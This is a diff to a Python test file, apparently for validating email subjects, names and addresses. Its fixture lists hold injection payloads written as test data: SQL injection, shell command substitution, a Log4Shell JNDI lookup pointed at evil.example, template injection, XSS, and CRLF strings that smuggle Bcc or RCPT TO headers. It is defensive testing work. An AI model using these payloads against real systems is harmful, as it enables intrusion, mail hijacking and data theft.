@@ -16,7 +16,26 @@ C0 = [chr(code) for code in range(32)]
 C1 = [chr(code) for code in range(0x7F, 0xA0)]
 BREAKS = ["\u2028", "\u2029"]
 BIDI = list("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
-INVISIBLE = ["\ufeff", "\ufff9", "\ufffa", "\ufffb", "\U000e0001", "\U000e0020", "\U000e0041", "\U000e007f"]
+INVISIBLE = [
+    "\u115f",
+    "\u1160",
+    "\u17b4",
+    "\u180e",
+    "\u2061",
+    "\u3164",
+    "\uffa0",
+    "\ufff0",
+    "\U0001d173",
+    "\U000e0fff",
+    "\ufeff",
+    "\ufff9",
+    "\ufffa",
+    "\ufffb",
+    "\U000e0001",
+    "\U000e0020",
+    "\U000e0041",
+    "\U000e007f",
+]
 
 NEVER_IN_A_LINE = C0 + C1 + BREAKS + BIDI + INVISIBLE
 # Tabs and line ends belong in a body; marks of direction do too: Arabic and Hebrew letters need them.
@@ -61,9 +80,12 @@ HARMLESS: list[str] = [
     "Ω", "مرحبا", "שלום", "中文字", "日本語", "ไทย", "ǅ", "ﬁ", "\u00a0x", "x\u3000y", "\u00ad x", "\u200bx", "x\u200cy", "\ue000", "\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\U0001d54f",
     "' or 1=1 --", "'; drop table tickets; --", "$(id)", "`id`", "${jndi:ldap://evil.example/a}", "{{7*7}}", "{% raw %}", "%s%s%n", "%(subject)s", "%(nothing)s", "{0}", "\\u0000", "\\r\\n" + BCC,
     "%0d%0aBcc: x", "%00", "&#10;Bcc: x", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "]]>", "<!--", "&lt;", "&", "a;b,c", "(comment)", "<charlie@evil.example>", '"quoted"',
-    "\\", "Alice <alice@example.org>", "a@b", "=?", "?=", "=?utf-8?q?plain?=", "=?utf-8?b?SGk=?=", "=0A", "-- ", ".", "..", "From x", ">From", "null", "NaN", "true", "0", "x" * 150, "://", "\u2603\ufe0f",
+    "\\", "Alice <alice@example.net>", "a@b", "=?", "?=", "=?utf-8?q?plain?=", "=?utf-8?b?SGk=?=", "=0A", "-- ", ".", "..", "From x", ">From", "null", "NaN", "true", "0", "x" * 150, "://", "\u2603\ufe0f",
 ]  # fmt: skip
 """Odd, and fine in a subject or a name; ``MARK`` is put before them."""
+
+ADDRESSED = [one for one in HARMLESS if "@evil.example" in one or "@example.net" in one]
+"""Of these, what no name may hold: somebody else's address."""
 
 WRONG_STRINGS = [
     "0",
@@ -150,7 +172,7 @@ ADDRESSES: list[str] = [
     "", " ", "@", "bob", "bob@", "@example.com", "bob@example", "bob@@example.com", "bob@exam@ple.com", "bob example@example.com", " bob@example.com", "bob@example.com ", "bob@ example.com", "bob @example.com", "bob@example.com,charlie@evil.example", "bob@example.com;charlie@evil.example",
     "bob@example.com charlie@evil.example", "Bob <bob@example.com>", "<bob@example.com>", '"bob"@example.com', '"b ob"@example.com', '"bob\\"@x"@example.com', "bob(comment)@example.com", "(c)bob@example.com", "bob@example.com(c)", "bob@[127.0.0.1]", "bob@[IPv6:::1]", "bob@127.0.0.1", "bob@1.2", "bob@example.1",
     ".bob@example.com", "bob.@example.com", "b..ob@example.com", "bob@.example.com", "bob@example.com.", "bob@example..com", "bob@-example.com", "bob@example-.com", "bob@exam_ple.com", "bob@exam!ple.com", "bob@exam ple.com", "bob@example.c*m", "bob@" + "a" * 64 + ".com", "b" * 65 + "@example.com", "bob@" + "a." * 130 + "com",
-    "é" * 33 + "@example.com", "bob@faß.de", "bob@straße.example", "bob@ς.example", "bob@a\u200db.example", "bob@a\u200cb.example", "bob@\U0001f600\ufe0f.example\u2028", "b\u200bob@example.com", "b\u00adob@example.com", "b\u00a0ob@example.com", "b\u3000ob@example.com", "b\u2060ob@example.com", "\ue000bob@example.com", "b\ufffeob@example.com", "b\U0010ffffob@example.com",
+    "é" * 33 + "@example.com", "bob@\u2615.example", "bob@\u2100.example", "bob@\u0378.example", "bob@a\u200db.example", "bob@a\u200cb.example", "bob@\U0001f600\ufe0f.example\u2028", "b\u200bob@example.com", "b\u00adob@example.com", "b\u00a0ob@example.com", "b\u3000ob@example.com", "b\u2060ob@example.com", "\ue000bob@example.com", "b\ufffeob@example.com", "b\U0010ffffob@example.com",
     "bob@example.com\r\nBcc: charlie@evil.example", "bob@example.com\nRCPT TO:<charlie@evil.example>", "bob@example.com> SIZE=1", "bob@example.com>\r\nDATA", "bob\\@example.com", "bob,@example.com", "bob:x@example.com", "[bob]@example.com", "bob;x@example.com", "mailto:bob@example.com", "bob@example.com?subject=x", "bob@example.com#", "bob@example.com/x", "bob%evil.example@", "bob@exam%ple.com", "bob@example,com", "bob@xn--.com-", "bob@exa\\mple.com",
     "=?utf-8?q?bob?=@example.com", "=?utf-8?q?=0ABcc:_x?=@example.com", "=?utf-8?b?Cg==?=@example.com", "bob=?utf-8?q?=0D=0A?=x@example.com", "=?x@example.com", "a=?utf-8?q?b@example.com",
     "bob@" + "a" * 300 + ".com", "b" * 300 + "@example.com", "b'ob@exam'ple.com", "javascript:alert(1)@example.com", "bob@exam|ple.com", "bob@$(id).example", "bob@`id`.com", "../bob@../etc", "bob@{{7*7}}.com",
